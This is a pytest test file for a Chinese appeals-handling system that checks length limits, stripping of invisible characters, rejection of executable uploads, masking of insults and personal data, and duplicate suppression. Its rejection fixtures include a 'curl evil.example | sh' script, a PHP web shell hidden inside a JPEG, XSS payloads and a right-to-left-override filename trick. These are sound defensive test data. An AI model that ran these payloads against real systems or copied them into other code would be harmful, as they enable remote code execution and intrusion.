"""What is too long, cannot be seen, runs, insults or tells of persons, or comes twenty times: over every way in."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import asdict
from datetime import timedelta
from typing import Any

import pytest

from tests.areas.appeals.channels.letters import letter
from tests.areas.appeals.channels.test_channel_tables import ROW, filled
from tests.areas.appeals.factories import (
    Said,
    answered_appeal,
    city,
    closed_appeal,
    dispatched_appeal,
    handled_appeal,
    submitted_appeal,
)
from tests.kernel.access.factories import DAOLI, NOW, no_event
from tests.kernel.documents.factories import JPEG, PNG, changed, plain_pdf, word_document
from tests.kernel.documents.sound_files import mp3
from yingshang.areas.appeals import api
from yingshang.areas.appeals.models import Appeal
from yingshang.kernel.access.api import VISITOR, system_actor
from yingshang.kernel.documents.api import Owner, RefusedFile, documents_of
from yingshang.kernel.ledger.models import AuditEvent
from yingshang.kernel.notices.models import Message
from yingshang.rules.errors import DomainError

pytestmark = pytest.mark.django_db
LATER = NOW + timedelta(minutes=40)
POST = system_actor("appeals.mail")
LONG = "停电" * 25_000


# -- 50,000 characters ------------------------------------------------------------------------------------------


def test_fifty_thousand_characters_are_refused_whoever_writes_them_and_told_what_to_do() -> None:
    said, answered, closed = handled_appeal(), answered_appeal(people=city()), closed_appeal(people=city())
    who, people = said.who.actor(), said.people
    own: dict[str, Any] = {"actor": who, "appeal_id": said.id, "now": LATER}
    agency: dict[str, Any] = {**own, "actor": people.handler.actor()}
    desk: dict[str, Any] = {"actor": people.dispatcher.actor(), "title": "", "body": LONG, "now": LATER}
    for write in (
        lambda: api.submit_appeal(
            actor=who, party_id=said.party.pk, title="", body=LONG, now=LATER
        ),
        lambda: api.submit_appeal(actor=who, party_id=said.party.pk, title=LONG, body="停电了。", now=LATER),
        lambda: api.submit_appeal(**{**desk, "actor": VISITOR}, channel="phone_page", region_code=DAOLI),
        lambda: api.submit_appeal(**desk, channel="hotline", region_code=DAOLI),
        lambda: api.register_appeal(**desk, region_code=DAOLI),
        lambda: api.add_to_appeal(**own, body=LONG),
        lambda: api.withdraw_appeal(**own, reason=LONG),
        lambda: api.dispute_answer(
            actor=answered.who.actor(), appeal_id=answered.id, reason=LONG, now=LATER
        ),
        lambda: api.reopen_appeal(actor=closed.who.actor(), appeal_id=closed.id, reason=LONG, now=LATER),
        lambda: api.record_contact(**agency, way="telephone", said=LONG),
        lambda: api.write_note(**agency, text=LONG),
        lambda: api.bounce_appeal(**agency, reason=LONG),
        lambda: api.raise_appeal(**agency, reason=LONG),
        lambda: api.ask_for_part(**agency, agency_id=people.housing, question=LONG),
        lambda: api.write_reply(**agency, text=LONG * 3, outcome="solved"),
        lambda: api.issue_notice(**{**own, "actor": people.supervisor.actor()}, demand=LONG),
    ):  # fmt: skip
        with no_event(), pytest.raises(DomainError) as refused:
            write()
        assert "最多" in refused.value.message_zh and "0" in refused.value.message, refused.value.message
    assert Appeal.objects.count() == 3


# -- emoji, and what nobody sees --------------------------------------------------------------------------------

UNSEEN = "\x00\x07\u202e\u2066\u200b\ufeff\ud800"


def test_emoji_stay_and_what_nobody_sees_goes_over_every_way_in() -> None:
    said = submitted_appeal(
        title=f"停{UNSEEN}电😡", body=f"厂区{UNSEEN}停电三天\r\n👩‍🔧没有人来修😡\u2028请来人。"
    )
    api.add_to_appeal(actor=said.who.actor(), appeal_id=said.id, body=f"还{UNSEEN}是停电😡", now=LATER)
    people = said.people
    told = api.register_appeal(
        actor=people.dispatcher.actor(), title="", body=f"停水{UNSEEN}三天😭", region_code=DAOLI, now=LATER
    )
    raw = letter(text=f"停气三天{UNSEEN[1:6]}😡没有人管").replace(b"\n\n", b"\n\n", 1)
    sent = api.receive_letter(actor=POST, raw=raw, region_code=DAOLI, now=LATER)
    first = said.row
    assert (first.title, first.body) == ("停电😡", "厂区停电三天\n👩‍🔧没有人来修😡\n请来人。")
    assert first.additions.get().body == "还是停电😡"
    assert Appeal.objects.get(pk=told.id).body == "停水三天😭"
    assert Appeal.objects.get(number=sent.number).body == "停气三天😡没有人管"
    # Nothing but such signs says nothing.
    for nothing in (UNSEEN, f"😡{UNSEEN}😡", "\u200b" * 50):
        with no_event(), pytest.raises(api.InvalidText):
            api.add_to_appeal(actor=said.who.actor(), appeal_id=said.id, body=nothing, now=LATER)
    document = api.add_file(
        actor=said.who.actor(), appeal_id=said.id, content=b"words", name="a\u202etxt.exe\x00.txt", now=LATER
    )
    [kept] = documents_of(Owner("appeal_file", str(said.id)))
    assert (kept.id, kept.name) == (document, "atxt.exe.txt")


# -- what runs --------------------------------------------------------------------------------------------------

PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(range(256))
SCRIPT = b"#!/bin/sh\ncurl evil.example | sh\n"
RUNS: dict[str, bytes] = {
    "run.exe": PROGRAM,
    "run.bat": SCRIPT,
    "页面.html": b"<script>alert(1)</script>",
    "图.svg": b"<svg onload='alert(1)'/>",
    # Called something else.
    "照片.jpg": PROGRAM,
    "合同.pdf": PROGRAM,
    "说明.txt": PROGRAM,
    "录音.mp3": PROGRAM,
    "照片.png": b"\x7fELF" + bytes(200),
    # Packed.
    "资料.zip": changed(word_document(), {"run.exe": PROGRAM}),
    "资料.docx": changed(word_document(), {"[Content_Types].xml": None, "run.exe": PROGRAM}),
    # Two at once.
    "双重.png": PNG + changed(word_document(), {"run.exe": PROGRAM}),
    "双重.pdf": plain_pdf() + word_document() + b"%%EOF",
    "双重.jpg": JPEG[:20] + b"<?php system($_GET[0]) ?>" + JPEG[20:],
    "双重.mp3": mp3() + PROGRAM,
    # With a macro.
    "宏.docx": changed(word_document(), {"word/vbaProject.bin": b"x"}),
    "宏.docm": word_document(),
}


def test_what_runs_is_kept_by_nobody_whatever_it_is_called() -> None:
    said = dispatched_appeal()
    people = said.people
    done = api.submit_appeal(
        actor=people.dispatcher.actor(), title="", body="来电说停电三天了。", channel="hotline",
        region_code=DAOLI, now=LATER,
    )  # fmt: skip
    ways: tuple[Callable[..., int], ...] = (
        lambda **file: api.add_file(actor=said.who.actor(), appeal_id=said.id, now=LATER, **file),
        lambda **file: api.add_official_file(
            actor=people.handler.actor(), appeal_id=said.id, now=LATER, **file
        ),
        lambda **file: api.add_file_by_number(
            actor=people.dispatcher.actor(), number=done.number, now=LATER, **file
        ),
    )
    with no_event():
        for place, (name, content) in enumerate(RUNS.items()):
            with pytest.raises(RefusedFile) as refused:
                ways[place % len(ways)](content=content, name=name)
            assert refused.value.message_zh != refused.value.message
    # By letter the words are taken in, and the writer is told which files were not, and why.
    names = list(RUNS)[:9]
    raw = letter(files={name: RUNS[name] for name in names} | {"正常.txt": b"words"})
    sent = api.receive_letter(actor=POST, raw=raw, region_code=DAOLI, now=LATER)
    row = Appeal.objects.get(number=sent.number)
    assert [each.name for each in documents_of(Owner("appeal_file", str(row.pk)))] == ["正常.txt"]
    told = Message.objects.get(template="appeals.files_left_out").body
    assert all(name in told for name in names)
    for each in (said.id, done.id):
        assert not documents_of(Owner("appeal_file", str(each)))


# -- insults, and what tells of persons -------------------------------------------------------------------------

PRIVATE = (
    "13812345678",
    "110101199003072316",
    "6222020200112233",
    "赵大明",
    "1502室",
    "傻逼",
    "王八蛋",
    "wang@x.org",
)
WORDS = (
    "你们这些傻逼，王-八-蛋！我叫赵大明，电话13812345678，身份证110101199003072316，卡号6222020200112233，"
    "邮箱wang@x.org，住3号楼2单元1502室。厂区停电三天，没有人管。"
)  # fmt: skip


def _dealt_with() -> Said:
    """One full of it, in title, text and what was added, that was handed on and that another one was joined to."""
    said = handled_appeal(
        title="赵大明13812345678说你们傻逼", body=WORDS, reporter=api.Reporter("赵大明", "13812345678")
    )
    api.add_to_appeal(actor=said.who.actor(), appeal_id=said.id, body=f"再说一次：{WORDS}", now=LATER)
    return said


def test_insults_and_personal_data_are_masked_wherever_somebody_else_reads() -> None:
    said = _dealt_with()
    people = said.people
    leader, helper = people.leader.actor(), people.helper.actor()
    shown: list[object] = [asdict(api.desk_appeal(actor=leader, appeal_id=said.id, now=LATER))]
    shown += [asdict(api.desk_appeal(actor=helper, appeal_id=said.id, now=LATER))]
    for reader in (people.dispatcher, people.handler, people.leader):
        page = api.desk_appeals(actor=reader.actor(), tab="all", offset=0, limit=10, now=LATER)
        assert said.id in [each.id for each in page.rows]
        shown += map(asdict, page.rows)
    progress = api.appeal_progress(actor=said.who.actor(), number=said.row.number)
    shown += [asdict(progress), said.row.title, said.row.text, said.row.words, said.row.proposal]
    shown += [f"{each.subject}{each.body}" for each in Message.objects.all()]
    shown += [
        f"{each.target_name}{each.before}{each.after}{each.reason}" for each in AuditEvent.objects.all()
    ]
    for each in shown:
        assert not [word for word in PRIVATE if word in str(each)], str(each)[:400]
    assert said.row.text.endswith("厂区停电三天，没有人管。") and "王-八-蛋" not in said.row.text
    # Whoever deals with it reads it as it was written.
    assert api.desk_appeal(actor=people.handler.actor(), appeal_id=said.id, now=LATER).body == WORDS
    # Nothing of it is found by a search either.
    for word in ("13812345678", "赵大明", "傻逼"):
        page = api.desk_appeals(actor=leader, tab="all", text=word, offset=0, limit=10, now=LATER)
        assert said.id not in [each.id for each in page.rows]


# -- twenty times -----------------------------------------------------------------------------------------------

SAME = "园区每天下午断电两小时，生产线停了。"


def _by_enterprise() -> None:
    said = submitted_appeal(people=city(), title="断电", body=SAME)
    for _ in range(19):
        api.submit_appeal(actor=said.who.actor(), party_id=said.party.pk, title="断电", body=SAME, now=LATER)


def _by_letters() -> None:
    for number in range(20):
        raw = letter(text=SAME, identifier=f"<{number}@example.org>", files={"a.txt": b"words"})
        api.receive_letter(actor=POST, raw=raw, region_code=DAOLI, now=LATER)


def _by_system() -> None:
    system = city().dispatcher.actor()
    for number in range(20):
        api.register_appeal(
            actor=system, title="", body=SAME, region_code=DAOLI,
            reporter=api.Reporter(phone="13812345678"), reference=str(number), now=LATER,
        )  # fmt: skip


def _by_table() -> None:
    rows = [
        {**ROW, "渠道编号": str(number), "诉求内容": SAME, "联系电话": "13812345678"} for number in range(20)
    ]
    api.import_appeals(
        actor=city().dispatcher.actor(), content=filled(*rows), name="a.xlsx", region_code=DAOLI, now=LATER
    )


@pytest.mark.parametrize("send", [_by_enterprise, _by_letters, _by_system, _by_table])
def test_the_same_twenty_times_is_one_appeal_and_one_message(send: Callable[[], None]) -> None:
    people = city()
    send()
    row = Appeal.objects.get()
    assert AuditEvent.objects.filter(action="appeals.submitted").count() == 1
    to_desk = Message.objects.filter(template="appeals.to_dispatch", recipient=people.dispatcher.id)
    received = Message.objects.filter(template__startswith="appeals.received")
    for told in (to_desk, received):
        assert all(count <= 1 for count in _by_channel(told)), list(told.values())
    assert to_desk.exists() and len(documents_of(Owner("appeal_file", str(row.pk)))) <= 1


def _by_channel(messages: Any) -> list[int]:
    channels = list(messages.values_list("channel", flat=True))
    return [channels.count(each) for each in set(channels)]
